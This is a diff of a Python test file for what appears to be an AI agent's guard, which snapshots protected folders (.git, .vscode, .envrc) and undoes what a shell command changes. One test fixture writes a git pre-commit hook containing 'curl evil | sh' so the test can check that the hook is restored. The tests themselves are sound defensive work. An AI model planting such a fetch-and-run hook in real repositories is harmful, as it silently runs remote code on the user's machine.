@@ -10,7 +10,8 @@ from helpers.calls import Scripted
 
 from rivulet.core.tools import protected_snapshot as ps
 from rivulet.core.tools.approval import ApprovalPolicy, Decision
-from rivulet.core.tools.protected_guard import settle
+from rivulet.core.tools.protected_guard import Guard, settle
+from rivulet.core.tools.protected_undo import undo
 
 
 def _write(path: Path, text: str = "x\n") -> Path:
@@ -43,7 +44,7 @@ def test_what_a_command_creates_is_found_and_removed(tmp_path):
     changes = ps.compare(before, ps.take(tmp_path))
     assert {(c.path, c.what) for c in changes} == {(".vscode", "created"), ("src/sitecustomize.py", "created"),
                                                    (".git", "created")}
-    lines = ps.undo(before, changes)
+    lines = undo(before, changes)
     assert sorted(lines) == [".git: removed", ".vscode: removed", "src/sitecustomize.py: removed"]
     assert sorted(p.name for p in tmp_path.rglob("*")) == ["main.py", "src"]
 
@@ -56,7 +57,7 @@ def test_a_new_virtualenv_goes_whole_and_an_old_folder_keeps_its_files(tmp_path)
     _write(tmp_path / "tools" / "pyvenv.cfg")  # an existing folder turned into a "virtualenv"
     changes = ps.compare(before, ps.take(tmp_path))
     assert {c.path for c in changes} == {"newenv/pyvenv.cfg", "tools/pyvenv.cfg"}
-    ps.undo(before, changes)
+    undo(before, changes)
     assert not (tmp_path / "newenv").exists()
     assert not (tmp_path / "tools" / "pyvenv.cfg").exists() and (tmp_path / "tools" / "run.py").read_text() == \
         "keep me\n"
@@ -71,7 +72,7 @@ def test_a_change_through_a_hard_link_is_put_back(tmp_path):
     hooks.write_text("#!/bin/sh\ncurl evil | sh\n")
     changes = ps.compare(before, ps.take(tmp_path))
     assert {(c.path, c.what) for c in changes} == {(".envrc", "changed"), (".git/hooks/pre-commit", "changed")}
-    assert sorted(ps.undo(before, changes)) == [".envrc: put back as it was", ".git/hooks/pre-commit: put back as it was"]
+    assert sorted(undo(before, changes)) == [".envrc: put back as it was", ".git/hooks/pre-commit: put back as it was"]
     assert envrc.read_text() == "export A=1\n" and hooks.read_text() == "#!/bin/sh\n"
 
 
@@ -83,7 +84,7 @@ def test_undo_removes_a_planted_link_and_never_follows_it(tmp_path):
     before = ps.take(ws)
     (ws / ".vscode").symlink_to(outside)
     changes = ps.compare(before, ps.take(ws))
-    assert ps.undo(before, changes) == [".vscode: removed"]
+    assert undo(before, changes) == [".vscode: removed"]
     assert not (ws / ".vscode").is_symlink() and (outside / "precious.txt").read_text() == "mine\n"
 
 
@@ -98,13 +99,49 @@ def test_below_the_levels_walked_nothing_is_compared_nor_removed(tmp_path, monke
 
 
 async def test_a_fifo_left_in_a_protected_folder_does_not_hang_the_question(tmp_path):
-    before = ps.take(tmp_path)
+    guard = Guard(tmp_path)
+    before = guard.take(ps.DEFAULT_PROTECTED)
     (tmp_path / ".idea").mkdir()
     os.mkfifo(tmp_path / ".idea" / "pipe")
     _write(tmp_path / ".idea" / "workspace.xml", "<project/>\n")
     approver = Scripted(Decision.NO)
     call = {"type": "function_call", "call_id": "c1", "name": "shell", "arguments": "{}"}
-    note = await settle(before, ps.DEFAULT_PROTECTED, call, ApprovalPolicy("auto", approver), None,
+    note = await settle(guard, before, call, ApprovalPolicy("auto", approver), None,
                         {"type": "function_call_output", "call_id": "c1", "output": ""})
     assert len(approver.asked) == 1 and "+<project/>" in approver.asked[0].detail
     assert ".idea: removed" in note and not (tmp_path / ".idea").exists()
+
+
+def test_a_file_the_budget_left_unread_is_no_change(tmp_path, monkeypatch):
+    """Issue 35: the second walk kept no bytes (its budget ran out, or it did not reach the
+    file): the same file was reported changed, and "put back"."""
+    _write(tmp_path / ".envrc", "export A=1\n")
+    before = ps.take(tmp_path)
+    monkeypatch.setattr(ps, "KEEP_TOTAL", 0)
+    assert ps.compare(before, ps.take(tmp_path)) == []
+    assert undo(before, [ps.Change(".envrc", "changed", "x")]) == []  # nothing to put back, and none said
+
+
+def test_a_root_made_a_git_directory_loses_only_what_was_added(tmp_path):
+    _write(tmp_path / "config", "mine\n")  # the user's, before
+    before = ps.take(tmp_path)
+    _write(tmp_path / "HEAD", "ref: refs/heads/main\n")
+    (tmp_path / "objects").mkdir()
+    (tmp_path / "refs").mkdir()
+    changes = ps.compare(before, ps.take(tmp_path))
+    assert sorted(c.path for c in changes) == ["HEAD", "objects", "refs"]
+    assert sorted(undo(before, changes)) == ["HEAD: removed", "objects: removed", "refs: removed"]
+    assert [p.name for p in tmp_path.iterdir()] == ["config"]
+
+
+def test_a_walk_cut_short_keeps_what_the_session_found(tmp_path, monkeypatch):
+    _write(tmp_path / "pkg" / ".vscode" / "tasks.json", "{}")
+    memory = ps.Memory()
+    assert "pkg/.vscode" in ps.take(tmp_path, memory=memory).protected
+    for i in range(5):
+        _write(tmp_path / f"n{i}")
+    monkeypatch.setattr(ps, "MAX_ENTRIES", 4)
+    assert "pkg/.vscode" not in ps.take(tmp_path).protected  # what a walk alone sees now
+    snap = ps.take(tmp_path, memory=memory)
+    assert snap.cut == ["pkg"] and "pkg/.vscode" in snap.protected
+    assert [p.relative_to(tmp_path).as_posix() for p in snap.read_only()] == ["pkg/.vscode"]
